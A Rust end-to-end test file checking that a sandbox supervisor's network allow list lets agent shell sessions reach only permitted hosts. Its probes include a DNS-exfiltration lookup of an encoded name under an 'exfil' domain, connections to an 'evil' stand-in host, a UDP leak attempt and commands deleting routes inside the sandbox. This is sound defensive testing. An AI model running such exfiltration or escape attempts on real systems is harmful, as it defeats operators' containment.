//! The network wall end to end (docs/THREAT_MODEL.md "Network",
//! docs/INTERFACES.md "[network]"): with `[network]` configured, a
//! sandboxed command reaches the hosts the policy allows through the
//! supervisor, and nothing else.
//!
//! A test host (tollgate_e2e::net_host) answers on a public-looking address
//! in a network namespace of the test's own: HTTP on 80 and 8080, a banner
//! and echo on 7000, a UDP sink on 9999 and the test resolver on 53, which
//! the supervisor uses (its /etc/resolv.conf, in a private mount namespace)
//! and which logs every name it is asked. On each backend, for a root and a
//! non-root session:
//! - an allowed name through proxy-aware curl (plain HTTP) and Python's
//!   urllib, through `curl --noproxy '*'` (the transparent path, the name
//!   learnt from the DNS stub's synthetic address), and `nc` (a raw TCP
//!   client) to an allowed host:port;
//! - an unlisted name refused, the result ending with its `network:
//!   refused` line, deduplicated; the proxy variables set, resolv.conf
//!   naming the stub;
//! - UDP to the test host: the send is refused and nothing arrives;
//! - getent and dig answer for any name, and the test resolver sees only
//!   the names that were allowed a connection;
//! - the rules and routes cannot be changed from inside;
//! - loopback inside the sandbox works (a local server), the host's does not;
//! - each connection is recorded, and revoke closes an open one, recorded.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod ask;
mod exec;
mod v6;

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tollgate_e2e::harness::{Supervisor, root_or_skip};
use tollgate_e2e::net_host::{self, TestHost};

/// The test host: HTTP (80, 8080), banner + echo (7000), UDP sink (9999,
/// into udp.log), the test resolver (53: names.txt's answers, A and AAAA,
/// every name asked into dns.log), HTTP on 80 of each IPv6 address given
/// after the first argument.
const SERVERS: &str = r#"
import http.server, socket, socketserver, struct, sys, threading
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = ("WALL-PAGE-OK host=" + self.headers.get("Host", "") + "\n").encode()
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a): pass
class E(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.sendall(b"WALL-BANNER\n")
        while True:
            d = self.request.recv(4096)
            if not d: return
            self.request.sendall(d)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 9999))
    while True:
        d, _ = s.recvfrom(2048)
        open("udp.log", "ab").write(d + b"\n")
def dns():
    # On the public address itself: a reply from another source is not an answer.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 53))
    while True:
        q, peer = s.recvfrom(512)
        i, labels = 12, []
        while q[i]:
            labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
        name = ".".join(labels).lower(); qtype = struct.unpack("!H", q[i+1:i+3])[0]
        open("dns.log", "a").write(name + "\n")
        names = {}
        for l in open("names.txt"):
            if l.strip():
                n, addr = l.split(); names.setdefault(n, []).append(addr)
        head = q[:2] + b"\x81\x80" + q[4:6]
        question = q[12:i+5]
        want = {1: (socket.AF_INET, b"\x00\x01", 4), 28: (socket.AF_INET6, b"\x00\x1c", 16)}.get(qtype)
        if name in names:
            found = [a for a in names[name] if want and (":" in a) == (qtype == 28)]
            ans = b"".join(b"\xc0\x0c" + want[1] + b"\x00\x01\x00\x00\x00\x05" + struct.pack("!H", want[2]) + socket.inet_pton(want[0], a) for a in found)
            s.sendto(head + struct.pack("!H", len(found)) + b"\x00\x00\x00\x00" + question + ans, peer)
        else:
            s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + question, peer)
class H6(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    def server_bind(self):
        # Not HTTPServer's: its reverse lookup of the address waits on DNS.
        socketserver.TCPServer.server_bind(self); self.server_name, self.server_port = "h6", 80
for a6 in sys.argv[2:]:
    threading.Thread(target=H6((a6, 80), H).serve_forever, daemon=True).start()
for port in (8080,):
    threading.Thread(target=http.server.ThreadingHTTPServer(("0.0.0.0", port), H).serve_forever, daemon=True).start()
threading.Thread(target=socketserver.ThreadingTCPServer(("0.0.0.0", 7000), E).serve_forever, daemon=True).start()
threading.Thread(target=udp, daemon=True).start()
threading.Thread(target=dns, daemon=True).start()
http.server.ThreadingHTTPServer(("0.0.0.0", 80), H).serve_forever()
"#;

/// One test's world: the host, its names, a supervisor that resolves
/// through the test resolver.
pub(crate) struct World {
    pub(crate) host: TestHost,
    pub(crate) dir: tempfile::TempDir,
    pub(crate) web: String,
    pub(crate) echo: String,
    pub(crate) evil: String,
    /// An allowed name answered only with the host's IPv6 addresses.
    pub(crate) web6: String,
    pub(crate) sup: Supervisor,
}

/// What a test adds to the world: config before `[network]`, lines in it,
/// IPv6 addresses for the host.
#[derive(Default)]
pub(crate) struct Extra<'a> {
    pub(crate) config: &'a str,
    pub(crate) network: &'a str,
    pub(crate) v6: u32,
}

impl World {
    fn start(test: u32, backend: &str, extra: &str) -> World {
        let e = Extra {
            config: extra,
            ..Extra::default()
        };
        World::start_with(test, backend, &e)
    }

    pub(crate) fn start_with(test: u32, backend: &str, e: &Extra<'_>) -> World {
        let a = net_host::addrs(test, 216, 1).with_v6(e.v6);
        let dir = tempfile::tempdir().unwrap();
        let tag = a.tag;
        let (web, echo, evil) = (
            format!("web-{tag}.example.com"),
            format!("echo-{tag}.example.com"),
            format!("evil-{tag}.example.com"),
        );
        let public = a.public[0].clone();
        let web6 = format!("web6-{tag}.example.com");
        let mut names: String = [&web, &echo, &evil]
            .iter()
            .map(|n| format!("{n} {public}\n"))
            .collect();
        names.extend(a.public6.iter().map(|p| format!("{web6} {p}\n")));
        std::fs::write(dir.path().join("names.txt"), names).unwrap();
        let mut args = vec![public.as_str()];
        args.extend(a.public6.iter().map(String::as_str));
        let host = TestHost::start(a.clone(), SERVERS, &args, dir.path(), 80);
        let resolv = dir.path().join("resolv.conf");
        std::fs::write(&resolv, format!("nameserver {public}\n")).unwrap();
        let script = format!(
            "mount --bind {} /etc/resolv.conf && exec \"$@\"",
            resolv.display()
        );
        let wrapper = [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            &script,
            "sh",
        ];
        let config = format!(
            "{}\n[network]\nallow = [\"{web}\", \"{web}:8080\", \"{echo}:7000\", \"{web6}\"]\n{}\n\n[llm]\nprovider = \"script\"\n",
            e.config, e.network
        );
        let sup = Supervisor::builder()
            .config(&config)
            .sandbox(backend)
            .wrapper(&wrapper)
            .start();
        World {
            host,
            dir,
            web,
            echo,
            evil,
            web6,
            sup,
        }
    }

    /// Adds `name ADDR` to what the test resolver answers.
    pub(crate) fn add_name(&self, name: &str, addr: &str) {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(self.dir.path().join("names.txt"))
            .unwrap();
        writeln!(f, "{name} {addr}").unwrap();
    }

    pub(crate) fn public(&self) -> &str {
        &self.host.addrs.public[0]
    }

    pub(crate) fn log(&self, file: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(file)).unwrap_or_default()
    }
}

/// A session owned by `uid`, through e2e-client as that uid.
pub(crate) struct Sess<'a> {
    pub(crate) sup: &'a Supervisor,
    pub(crate) uid: u32,
    pub(crate) id: String,
    pub(crate) token: String,
}

pub(crate) fn client_as(sup: &Supervisor, uid: u32, token: &str, args: &[&str]) -> String {
    let out = Command::new(sup.dirs.staged_bin("e2e-client"))
        .arg(&sup.agent_socket)
        .arg(token)
        .args(args)
        .uid(uid)
        .gid(uid)
        .output()
        .expect("run e2e-client");
    assert!(
        out.status.success(),
        "e2e-client: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

impl<'a> Sess<'a> {
    pub(crate) fn open(sup: &'a Supervisor, ws: &Path, uid: u32) -> Sess<'a> {
        Sess::open_in(sup, ws, uid, "dangerouslySkipPermissions")
    }

    /// A session in `mode`.
    pub(crate) fn open_in(sup: &'a Supervisor, ws: &Path, uid: u32, mode: &str) -> Sess<'a> {
        let line = client_as(sup, uid, "-", &["open", ws.to_str().unwrap(), mode]);
        let mut parts = line.split_whitespace();
        assert_eq!(parts.next(), Some("OK"), "{line}");
        Sess {
            sup,
            uid,
            id: parts.next().unwrap().to_string(),
            token: parts.next().unwrap().to_string(),
        }
    }

    /// run_bash: (output, exit code).
    pub(crate) fn bash(&self, command: &str) -> (String, i64) {
        self.bash_for(command, 60)
    }

    /// run_bash with its own timeout: (output, exit code).
    pub(crate) fn bash_for(&self, command: &str, timeout_s: u64) -> (String, i64) {
        let args = json!({ "command": command, "timeout_s": timeout_s }).to_string();
        let line = client_as(
            self.sup,
            self.uid,
            &self.token,
            &["call", "run_bash", &args],
        );
        let v: Value = serde_json::from_str(
            line.strip_prefix("OK ")
                .unwrap_or_else(|| panic!("`{command}`: {line}")),
        )
        .unwrap();
        let out = v["output"].as_str().unwrap_or_default().to_string();
        (out, v["exit_code"].as_i64().unwrap_or(-1))
    }

    pub(crate) fn net_records(&self) -> Vec<Value> {
        self.sup
            .session_records(&self.id)
            .into_iter()
            .filter(|r| r["event"] == "net_connection")
            .collect()
    }
}

pub(crate) fn workspace(sup: &Supervisor, name: &str, uid: u32) -> PathBuf {
    sup.dirs.workspace(name, uid)
}

/// A python3 command that connects to `host`'s echo server (7000) with a
/// raw socket (no proxy variable followed), sends `send`, and prints what
/// came back once all of `until` has, the server closed, or 64 KiB came:
/// never the first `recv` taken for the whole answer.
fn raw_echo(host: &str, send: &str, until: &[&str]) -> String {
    let until: Vec<String> = until.iter().map(|u| format!("b\"{u}\", ")).collect();
    format!(
        "python3 -c 'import socket\ns = socket.create_connection((\"{host}\", 7000), timeout=20)\ns.sendall(b\"{send}\")\ngot = b\"\"\nwhile len(got) < 65536 and not all(u in got for u in ({})):\n  c = s.recv(4096)\n  if not c: break\n  got += c\nprint(got.decode())'",
        until.concat()
    )
}

/// Allowed names through the proxies and the transparent path.
fn allowed_names_get_through(w: &World, s: &Sess<'_>, has_curl: bool) {
    let web = &w.web;
    let fetch = format!(
        "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://{web}:8080/u\", timeout=20).read().decode())'"
    );
    let (out, code) = s.bash(&fetch);
    assert!(
        code == 0 && out.contains(&format!("WALL-PAGE-OK host={web}:8080")),
        "urllib: {out}"
    );
    if has_curl {
        for cmd in [
            format!("curl -fsS --max-time 20 http://{web}/proxied"),
            format!("curl -fsS --max-time 20 --noproxy '*' http://{web}/direct"),
        ] {
            let (out, code) = s.bash(&cmd);
            assert!(
                code == 0 && out.contains(&format!("WALL-PAGE-OK host={web}")),
                "{cmd}: {out}"
            );
        }
        let (out, code) = s.bash(&format!(
            "echo ping-through | nc -q 2 -w 10 {} 7000",
            w.echo
        ));
        assert!(
            code == 0 && out.contains("WALL-BANNER") && out.contains("ping-through"),
            "nc: {out}"
        );
    } else {
        // A raw socket that ignores every proxy variable: the transparent path.
        let (out, code) = s.bash(&raw_echo(
            &w.echo,
            "ping-through\\n",
            &["WALL-BANNER", "ping-through"],
        ));
        assert!(
            code == 0 && out.contains("WALL-BANNER") && out.contains("ping-through"),
            "raw socket: {out}"
        );
    }
}

/// An unlisted name: refused, the result's last lines saying so once.
fn unlisted_names_are_refused_with_the_line(w: &World, s: &Sess<'_>) {
    let evil = &w.evil;
    let cmd = format!(
        "python3 -c 'import urllib.request\nfor i in range(3):\n  try: urllib.request.urlopen(\"http://{evil}/x\", timeout=20)\n  except Exception as e: print(\"REFUSED\", e)'"
    );
    let (out, _) = s.bash(&cmd);
    let line = format!(
        "network: refused {evil}:80 (not in [network] allow; an operator can run: supervisorctl net allow {} {evil})",
        s.id
    );
    assert!(out.contains("REFUSED HTTP Error 403"), "{out}");
    assert!(out.trim_end().ends_with(&line), "{out}");
    assert_eq!(out.matches("network: refused").count(), 1, "{out}");
    // The transparent path: the connection is reset, and the line is there.
    let raw = format!(
        "python3 -c 'import socket\ntry:\n  s = socket.create_connection((\"{evil}\", 443), timeout=20); s.sendall(b\"x\"); print(\"GOT\", s.recv(10))\nexcept Exception as e: print(\"RESET\", e)'"
    );
    let (out, _) = s.bash(&raw);
    assert!(!out.contains("GOT b'"), "{out}");
    assert!(
        out.contains(&format!("network: refused {evil}:443 (")),
        "{out}"
    );
}

/// What the sandbox is told, and what it cannot do: UDP out, the rules.
fn the_wall_holds(w: &World, s: &Sess<'_>) {
    let (out, _) = s.bash("env | grep -i _proxy= | sort; cat /etc/resolv.conf");
    for v in [
        "HTTPS_PROXY=http://127.0.0.1:3128",
        "http_proxy=http://127.0.0.1:3128",
        "ALL_PROXY=socks5h://127.0.0.1:1080",
        "no_proxy=localhost,127.0.0.1,::1",
        "nameserver 127.0.0.1",
    ] {
        assert!(out.contains(v), "{v}: {out}");
    }
    let udp = format!(
        "python3 -c 'import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: u.sendto(b\"UDP-LEAK\", (\"{}\", 9999)); print(\"SENT\")\nexcept Exception as e: print(\"NOT SENT\", e)'",
        w.public()
    );
    let (out, _) = s.bash(&udp);
    assert!(out.contains("NOT SENT"), "{out}");
    let (out, _) = s.bash(
        "ip route del default; ip link set lo down; grep CapEff /proc/self/status; echo done",
    );
    assert!(
        out.contains("CapEff:\t0000000000000000") && out.contains("done"),
        "{out}"
    );
    // Still captured after the attempts, and still working.
    let (out, code) = s.bash(&raw_echo(&w.echo, "", &["WALL-BANNER"]));
    assert!(code == 0 && out.contains("WALL-BANNER"), "{out}");
    assert!(!w.log("udp.log").contains("UDP-LEAK"), "UDP arrived");
}

/// DNS: any name answers (a synthetic address); the test resolver sees
/// only names a connection was allowed to.
fn dns_leaks_nothing(w: &World, s: &Sess<'_>, has_dig: bool) {
    let secret = format!("c2VjcmV0-{}.exfil.example.com", w.host.addrs.tag);
    let (out, code) = s.bash(&format!("getent hosts {secret}"));
    assert!(code == 0 && out.starts_with("198.1"), "getent: {out}");
    if has_dig {
        let (out, code) = s.bash(&format!("dig +short {secret}.again"));
        assert!(code == 0 && out.trim().starts_with("198.1"), "dig: {out}");
    }
    let asked = w.log("dns.log");
    assert!(asked.contains(&w.web), "{asked}");
    assert!(!asked.contains("exfil"), "the resolver saw: {asked}");
    assert!(!asked.contains(&w.evil), "the resolver saw: {asked}");
}

/// Loopback inside the sandbox works; the host's is not reachable.
fn loopback_is_the_sandboxs_own(s: &Sess<'_>, host_port: u16) {
    let cmd = format!(
        "python3 -c '\nimport http.server, threading, urllib.request, socket\nsrv = http.server.ThreadingHTTPServer((\"127.0.0.1\", 8765), http.server.SimpleHTTPRequestHandler)\nthreading.Thread(target=srv.serve_forever, daemon=True).start()\nr = urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open(\"http://127.0.0.1:8765/\", timeout=10)\nprint(\"LOCAL\", r.status)\ntry: socket.create_connection((\"127.0.0.1\", {host_port}), timeout=5); print(\"HOST REACHED\")\nexcept Exception as e: print(\"HOST NOT REACHED\", e)'"
    );
    let (out, code) = s.bash(&cmd);
    assert!(code == 0 && out.contains("LOCAL 200"), "{out}");
    assert!(out.contains("HOST NOT REACHED"), "{out}");
}

/// A listener on the host's loopback, which no sandbox may reach.
fn host_loopback_listener() -> std::net::TcpListener {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap()
}

async fn the_wall(test: u32, backend: &str, extra: &str, uid: u32, full_tools: bool) {
    let w = World::start(test, backend, extra);
    let ws = workspace(&w.sup, "ws", uid);
    let s = Sess::open(&w.sup, &ws, uid);
    let host_lo = host_loopback_listener();
    allowed_names_get_through(&w, &s, full_tools);
    unlisted_names_are_refused_with_the_line(&w, &s);
    the_wall_holds(&w, &s);
    dns_leaks_nothing(&w, &s, full_tools);
    loopback_is_the_sandboxs_own(&s, host_lo.local_addr().unwrap().port());
    let recs = s.net_records();
    let opened: Vec<&Value> = recs.iter().filter(|r| r["phase"] == "open").collect();
    let closed = recs.iter().filter(|r| r["phase"] == "close").count();
    assert!(
        opened.iter().any(|r| r["host"] == w.web.as_str()
            && r["address"] == format!("{}:8080", w.public()).as_str()),
        "{recs:#?}"
    );
    assert!(
        opened.iter().any(|r| r["via"] == "transparent"),
        "{recs:#?}"
    );
    assert!(closed >= opened.len().saturating_sub(1), "{recs:#?}");
    assert!(
        recs.iter()
            .any(|r| r["phase"] == "refused" && r["host"] == w.evil.as_str()),
        "{recs:#?}"
    );
    revoke_closes_open_connections(&w, s).await;
}

/// An open connection (nc waiting on the echo) is closed by revoke, its
/// close recorded.
async fn revoke_closes_open_connections(w: &World, s: Sess<'_>) {
    let (sup_socket, staged) = (
        w.sup.agent_socket.clone(),
        w.sup.dirs.staged_bin("e2e-client"),
    );
    let (uid, token, echo) = (s.uid, s.token.clone(), w.echo.clone());
    let held = std::thread::spawn(move || {
        let cmd = format!(
            "python3 -c 'import socket, time; s = socket.create_connection((\"{echo}\", 7000), timeout=20); print(s.recv(100)); time.sleep(50)'"
        );
        let args = json!({ "command": cmd, "timeout_s": 60 }).to_string();
        Command::new(staged)
            .arg(&sup_socket)
            .arg(&token)
            .args(["call", "run_bash", &args])
            .uid(uid)
            .gid(uid)
            .output()
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    let before = s.net_records().len();
    let open_id = loop {
        let recs = s.net_records();
        if let Some(r) = recs[before.min(recs.len())..]
            .iter()
            .find(|r| r["phase"] == "open" && r["port"] == 7000)
        {
            break r["conn"].as_u64().unwrap();
        }
        assert!(Instant::now() < deadline, "no open record: {recs:#?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let out = w.sup.ctl(&["revoke", &s.id]);
    assert!(out.status.success(), "{out:?}");
    let _ = held.join();
    let recs = s.net_records();
    assert!(
        recs.iter()
            .any(|r| r["phase"] == "close" && r["conn"].as_u64() == Some(open_id)),
        "{recs:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn native_root_session_reaches_allowed_hosts_and_nothing_else() {
    if !root_or_skip("native_root_session_reaches_allowed_hosts_and_nothing_else") {
        return;
    }
    the_wall(60, "native", "", 0, true).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn native_non_root_session_reaches_allowed_hosts_and_nothing_else() {
    if !root_or_skip("native_non_root_session_reaches_allowed_hosts_and_nothing_else") {
        return;
    }
    the_wall(61, "native", "", 65534, true).await;
}

/// Without `[network]`, nothing changes: network clients are refused by
/// name with a text saying how to get hosts allowed, and nothing leaves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_network_clients_stay_refused_and_say_how_to_ask() {
    if !root_or_skip("without_network_clients_stay_refused_and_say_how_to_ask") {
        return;
    }
    let sup = Supervisor::start();
    let ws = workspace(&sup, "ws", 0);
    let s = Sess::open(&sup, &ws, 0);
    let args = json!({ "command": "curl -fsS http://example.com/" }).to_string();
    let line = client_as(&sup, 0, &s.token, &["call", "run_bash", &args]);
    assert!(line.contains("[network] allow list"), "{line}");
    let host_lo = host_loopback_listener();
    loopback_is_the_sandboxs_own(&s, host_lo.local_addr().unwrap().port());
    let (out, _) = s.bash("env | grep -ci _proxy=; cat /etc/resolv.conf");
    assert!(out.starts_with("0\n"), "{out}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_root_session_reaches_allowed_hosts_and_nothing_else() {
    let Some(image) = super::mcp_gateway_net::full_image_or_skip("network_wall_docker_root") else {
        return;
    };
    let extra = format!("[sandbox]\nimage = \"{image}\"\n");
    the_wall(62, "docker", &extra, 0, false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_non_root_session_reaches_allowed_hosts_and_nothing_else() {
    let Some(image) = super::mcp_gateway_net::full_image_or_skip("network_wall_docker_non_root")
    else {
        return;
    };
    let extra = format!("[sandbox]\nimage = \"{image}\"\n");
    the_wall(63, "docker", &extra, 65534, false).await;
}
